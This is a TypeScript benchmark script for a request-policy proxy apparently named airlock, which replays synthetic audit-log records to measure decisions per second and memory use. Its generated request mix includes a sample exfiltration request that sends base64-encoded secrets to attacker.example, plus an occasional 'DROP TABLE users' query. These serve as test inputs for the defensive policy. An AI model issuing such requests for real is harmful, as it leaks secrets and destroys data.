// bench/replay: decisions per second replaying captured requests (audit-log JSON Lines) with the
// default policy (rego/), and memory while doing it. The capture is generated into a temp file and
// streamed back, so the figures include reading and parsing, as `airlock replay` does.
// Memory must not grow with the file: the run is repeated on a file 5x smaller and the peak RSS
// of both is reported.
// Usage: node --expose-gc bin/run-ts.js bench/replay/replay.ts [--requests 100000] [--policy rego]
//        [--baseline] [--threads N (isolated engine with N threads instead of inline)]
//        [--runs R: replay the large file R times and report each rate, the best and the median;
//         on a shared machine other tenants only ever slow a run down]
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { once } from 'node:events';
import { parseArgs } from 'node:util';
import { loadAdapters } from '../../describe/adapters/index.ts';
import { describeRequest, type RawRequest } from '../../describe/describe.ts';
import { PlaceholderIndex } from '../../describe/placeholders.ts';
import { auditLine } from '../../state/audit-log.ts';
import { openPolicy, replayFiles, type ReplayReport } from '../../offline/replay.ts';
import { resultCacheStats } from '../../engine/interpret.ts';
import { projectRoot } from '../../engine/toolchain.ts';

const { values } = parseArgs({
  options: {
    requests: { type: 'string', default: '100000' },
    policy: { type: 'string', default: path.join(projectRoot, 'rego') },
    baseline: { type: 'boolean', default: false },
    threads: { type: 'string', default: '0' },
    runs: { type: 'string', default: '3' },
  },
});
const N = Number(values.requests);
const threads = Number(values.threads);
const mb = (b: number): string => `${(b / 1024 / 1024).toFixed(1)} MB`;

const agents = ['coder', 'billing', 'assistant', 'ops'];
const ph = (name: string): string => `airlock-ph-${name}-${'0123456789abcdef'.repeat(2)}`;
const finder = new PlaceholderIndex(['github_token', 'stripe_key', 'gmail_token', 'slack_token', 'openai_api_key'].map((n): [string, string] => [n, ph(n)]));

/** A realistic mix: reads, writes, sends, deletes, SQL, model calls, exfiltration attempts. */
function raw(i: number): RawRequest {
  const time = new Date(Date.parse('2026-01-05T00:00:00Z') + i * 250);
  const json = (o: unknown): Buffer => Buffer.from(JSON.stringify(o));
  const base = { id: `req-${i}`, time, bodyTruncated: false };
  switch (i % 10) {
    case 0: return { ...base, method: 'GET', url: `https://api.github.com/repos/acme/repo${i % 50}/issues?state=open&page=${i % 7}`, headers: [['Authorization', `Bearer ${ph('github_token')}`], ['Accept', 'application/vnd.github+json']], body: Buffer.alloc(0) };
    case 1: return { ...base, method: 'POST', url: `https://api.github.com/repos/acme/repo${i % 50}/issues/${i % 300}/comments`, headers: [['Authorization', `Bearer ${ph('github_token')}`], ['Content-Type', 'application/json']], body: json({ body: `Comment ${i}: looks good to me, ${'details '.repeat(20)}` }) };
    case 2: return { ...base, method: 'GET', url: `https://api.stripe.com/v1/customers?limit=10&starting_after=cus_${i}`, headers: [['Authorization', `Bearer ${ph('stripe_key')}`]], body: Buffer.alloc(0) };
    case 3: return { ...base, method: 'POST', url: 'https://api.stripe.com/v1/refunds', headers: [['Authorization', `Bearer ${ph('stripe_key')}`], ['Content-Type', 'application/x-www-form-urlencoded']], body: Buffer.from(`payment_intent=pi_${i}&amount=${i % 5000}`) };
    case 4: return { ...base, method: 'POST', url: 'https://gmail.googleapis.com/gmail/v1/users/me/messages/send', headers: [['Authorization', `Bearer ${ph('gmail_token')}`], ['Content-Type', 'application/json']], body: json({ raw: Buffer.from(`To: user${i}@example.com\r\nSubject: hi\r\n\r\nhello`).toString('base64url') }) };
    case 5: return { ...base, method: 'POST', url: 'https://api.openai.com/v1/chat/completions', headers: [['Authorization', `Bearer ${ph('openai_api_key')}`], ['Content-Type', 'application/json']], body: json({ model: 'gpt-4o', messages: [{ role: 'user', content: `Summarize ticket ${i}. ${'context '.repeat(60)}` }] }) };
    case 6: return { ...base, method: 'POST', url: 'https://ep-cool-darkness-123456.us-east-2.aws.neon.tech/sql', headers: [['Content-Type', 'application/json']], body: json({ query: i % 20 === 6 ? 'DROP TABLE users' : 'SELECT id, total FROM orders WHERE customer_id = $1', params: [i] }) };
    case 7: return { ...base, method: 'DELETE', url: `https://api.github.com/repos/acme/repo${i % 50}`, headers: [['Authorization', `Bearer ${ph('github_token')}`]], body: Buffer.alloc(0) };
    case 8: return { ...base, method: 'GET', url: `https://attacker.example/collect?d=${Buffer.from(`secret-${i}`).toString('base64')}`, headers: [], body: Buffer.alloc(0) };
    default: return { ...base, method: 'POST', url: 'https://slack.com/api/chat.postMessage', headers: [['Authorization', `Bearer ${ph('slack_token')}`], ['Content-Type', 'application/json']], body: json({ channel: 'C024BE91L', text: `Build ${i} finished` }) };
  }
}

/** Writes n audit records, streaming (the generator itself must not hold the file). */
async function generate(file: string, n: number): Promise<void> {
  const out = fs.createWriteStream(file);
  for (let i = 0; i < n; i++) {
    const d = describeRequest(raw(i), { agent: { id: agents[i % agents.length]!, labels: {} }, placeholders: finder });
    // Shaped and serialized as the proxy writes audit records.
    const line = `${auditLine({
      time: d.request.time, id: d.request.id, method: d.request.method, url: d.request.url, outcome: 'forwarded', agent: d.agent.id, host: d.request.host,
      description: d, decision: { action: 'allow', reason: 'recorded', rule: 'effect.read' }, policy_version: 'recorded', decision_us: 40, status: 200, upstream_status: 200, total_ms: 12,
    })}\n`;
    if (!out.write(line)) await once(out, 'drain');
  }
  out.end();
  await once(out, 'finish');
}

interface Run {
  n: number;
  fileBytes: number;
  report: ReplayReport;
  rssBefore: number;
  rssPeak: number;
  rssAfter: number;
  heapPeak: number;
  heapRetained: number;
  /** Decisions/s of each replay of the file (the memory figures are from the first). */
  rates: number[];
  /** Policy results interpreted from the result cache vs parsed and checked, in the first replay. */
  cacheHits: number;
  cacheMisses: number;
}

async function run(n: number, dir: string, repeats = 1): Promise<Run> {
  const file = path.join(dir, `capture-${n}.jsonl`);
  await generate(file, n);
  const policy = await openPolicy(values.policy, { threads });
  const baseline = values.baseline ? await openPolicy(values.policy, { threads }) : undefined;
  global.gc?.();
  const rssBefore = process.memoryUsage().rss;
  const cacheBefore = resultCacheStats();
  let rssPeak = rssBefore;
  let heapPeak = 0;
  const sample = (): void => {
    const m = process.memoryUsage();
    rssPeak = Math.max(rssPeak, m.rss);
    heapPeak = Math.max(heapPeak, m.heapUsed);
  };
  const report = await replayFiles([file], { policy, baseline, againstLog: !baseline, onProgress: sample, progressIntervalMs: 50, maxChanged: 1000, concurrency: threads ? 256 : 1 });
  sample();
  const cacheAfter = resultCacheStats();
  const rssAfter = process.memoryUsage().rss;
  // What the run retains (the report with its capped rows), measured after a full GC.
  global.gc?.();
  const heapRetained = global.gc ? process.memoryUsage().heapUsed : NaN;
  const rates = [report.decided / (report.elapsedMs / 1000)];
  for (let i = 1; i < repeats; i++) {
    const again = await replayFiles([file], { policy, baseline, againstLog: !baseline, maxChanged: 1000, concurrency: threads ? 256 : 1 });
    rates.push(again.decided / (again.elapsedMs / 1000));
  }
  await policy.close();
  await baseline?.close();
  const fileBytes = fs.statSync(file).size;
  fs.rmSync(file);
  return {
    n, fileBytes, report, rssBefore, rssPeak, rssAfter, heapPeak, heapRetained, rates,
    cacheHits: cacheAfter.hits - cacheBefore.hits, cacheMisses: cacheAfter.misses - cacheBefore.misses,
  };
}

const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'airlock-bench-replay-'));
try {
  await loadAdapters();
  const small = await run(Math.max(1000, Math.round(N / 5)), dir);
  const big = await run(N, dir, Math.max(1, Number(values.runs)));
  process.stdout.write(`bench/replay — ${os.cpus()[0]?.model ?? 'cpu'} (${os.availableParallelism()} threads), node ${process.version}\n`);
  process.stdout.write(`${threads ? `isolated engine, ${threads} evaluation thread(s)` : 'inline engine (one thread)'}; policy ${values.policy}${values.baseline ? ' (with a baseline: two decisions per request)' : ' (against the recorded decisions)'}\n\n`);
  for (const r of [small, big]) {
    const rate = r.report.decided / (r.report.elapsedMs / 1000);
    process.stdout.write(
      `${r.n.toLocaleString('en-US').padStart(8)} requests (${mb(r.fileBytes)} file): ${Math.round(rate).toLocaleString('en-US')} decisions/s, ` +
      `${r.report.elapsedMs} ms; RSS before ${mb(r.rssBefore)}, peak ${mb(r.rssPeak)}, after ${mb(r.rssAfter)}; heap peak ${mb(r.heapPeak)}, after GC ${Number.isNaN(r.heapRetained) ? 'n/a (run node with --expose-gc)' : mb(r.heapRetained)}; ` +
      `changed ${r.report.changed} (kept ${r.report.changedRows.length}); after: ${JSON.stringify(r.report.after)}; ` +
      `result cache: ${r.cacheMisses} results parsed and checked, ${r.cacheHits} reused\n`,
    );
  }
  const growth = (big.rssPeak - big.rssBefore) / Math.max(1, small.rssPeak - small.rssBefore);
  process.stdout.write(`\nfile ${(big.fileBytes / small.fileBytes).toFixed(1)}x larger → peak RSS growth during the run ${mb(big.rssPeak - big.rssBefore)} vs ${mb(small.rssPeak - small.rssBefore)} (${growth.toFixed(2)}x; the GC collects lazily)` +
    (global.gc ? `; heap retained after GC ${mb(big.heapRetained)} vs ${mb(small.heapRetained)}` : '') + '\n');
  const fmt = (r: number): string => Math.round(r).toLocaleString('en-US');
  const sorted = [...big.rates].sort((a, b) => a - b);
  const best = sorted[sorted.length - 1]!;
  const median = sorted[Math.floor(sorted.length / 2)]!;
  process.stdout.write(`${N.toLocaleString('en-US')} requests, ${big.rates.length} replays: ${big.rates.map(fmt).join(', ')} decisions/s (best ${fmt(best)}, median ${fmt(median)})\n`);
  process.stdout.write(`target ≥ 20,000 decisions/s: ${median >= 20_000 ? 'met' : best >= 20_000 ? 'met by the best run, not by the median' : 'NOT met'}\n`);
} finally {
  fs.rmSync(dir, { recursive: true, force: true });
}
